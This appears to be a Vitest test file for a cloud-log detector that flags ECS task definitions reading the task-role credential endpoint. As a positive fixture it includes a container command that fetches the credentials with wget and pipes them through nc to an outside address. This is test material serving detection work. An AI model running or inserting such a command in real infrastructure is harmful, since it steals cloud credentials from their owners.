import { describe, expect, it } from 'vitest';
import { ecsTaskReadsCredentials } from '../../../src/detectors/ecs-task-reads-credentials.js';
import { detect, record } from '../../helpers/records.js';

const register = (containerDefinitions: Record<string, unknown>[]) =>
  record({
    eventSource: 'ecs.amazonaws.com',
    eventName: 'RegisterTaskDefinition',
    readOnly: false,
    requestParameters: {
      family: 'nightly-report',
      taskRoleArn: 'arn:aws:iam::123456789012:role/ReportTask',
      networkMode: 'awsvpc',
      requiresCompatibilities: ['FARGATE'],
      containerDefinitions,
    },
  });

describe('ecs-task-reads-credentials', () => {
  it('when a container command curls the credential endpoint, raises high naming the family', () => {
    const event = register([
      {
        name: 'report',
        image: 'public.ecr.aws/docker/library/alpine:3.19',
        entryPoint: ['sh', '-c'],
        command: [
          'wget -qO- http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 203.0.113.66 443',
        ],
      },
    ]);
    const [finding] = detect(ecsTaskReadsCredentials, [event]);
    expect(finding?.severity).toBe('high');
    expect(finding?.category).toBe('data-exfiltration');
    expect(finding?.eventIds).toEqual([event.eventID]);
    expect(finding?.summary).toContain('ECS task definition nightly-report');
  });

  it('when containers run ordinary commands, stays quiet', () => {
    expect(
      detect(ecsTaskReadsCredentials, [
        register([
          {
            name: 'app',
            image: '123456789012.dkr.ecr.us-east-1.amazonaws.com/app:1.4',
            command: ['node', 'server.js'],
          },
        ]),
        register([{ name: 'app', image: 'nginx:1.25' }]),
      ]),
    ).toEqual([]);
  });
});
